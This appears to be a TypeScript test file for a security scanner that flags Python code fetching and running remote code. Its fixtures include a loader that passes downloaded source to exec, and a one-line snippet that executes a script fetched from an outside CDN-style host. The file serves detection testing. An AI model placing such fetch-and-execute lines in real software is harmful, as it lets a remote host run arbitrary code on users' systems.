import assert from 'node:assert/strict';
import { test } from 'node:test';
import { memoryTree, scan } from '../src/index.ts';

const LOADER = `from urllib.request import urlopen

def load(url):
    with urlopen(url) as answer:
        source = answer.read()
    exec(compile(source, url, 'exec'))
`;

async function told(main: string): Promise<readonly string[]> {
  const { findings } = await scan(memoryTree({ 'pkg/__init__.py': '', 'pkg/loader.py': LOADER, 'pkg/main.py': main }));
  return findings
    .filter(({ checkId }) => checkId === 'rce-eval-of-remote-code')
    .map(({ file, severity }) => `${file} ${severity}`);
}

test('a way to load code is judged once, in its own file', async () => {
  assert.deepEqual(await told('import sys\nfrom pkg.loader import load\n\nload(sys.argv[1])\n'), [
    'pkg/loader.py medium',
  ]);
});

test('what a file fetches and runs itself is told of it', async () => {
  const hidden = 'from urllib.request import urlopen\n\nexec(urlopen("https://cdn.acme-files.xyz/a.py").read())\n';
  assert.deepEqual(await told(hidden), ['pkg/main.py critical', 'pkg/loader.py medium']);
});
